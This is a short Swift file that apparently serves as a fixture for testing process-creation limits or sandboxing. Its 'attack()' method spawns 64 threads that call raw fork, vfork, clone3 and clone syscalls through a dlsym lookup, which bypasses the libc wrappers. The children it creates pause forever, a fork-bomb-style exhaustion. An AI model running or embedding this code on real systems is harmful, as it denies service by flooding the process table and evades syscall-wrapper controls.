import Glibc

/// Many threads that all begin processes, again and again.
public class Target {
    public init() {}

    public func attack() {
        var threads: [pthread_t] = []
        for _ in 0..<64 {
            var thread = pthread_t()
            let begun = pthread_create(
                &thread, nil,
                { _ in
                    typealias Call = @convention(c) (Int, Int, Int, Int, Int, Int) -> Int
                    let call = unsafeBitCast(dlsym(nil, "syscall"), to: Call.self)
                    for number in [57, 58, 435, 56] {
                        for _ in 0..<20 {
                            let child = call(number, 17, 0, 0, 0, 0)
                            if child == 0 { while true { pause() } }
                            if child > 0 { print("forked") }
                        }
                    }
                    return nil
                }, nil)
            if begun == 0 { threads.append(thread) }
        }
        for thread in threads { pthread_join(thread, nil) }
    }

    public func answer() { print("answered") }
}
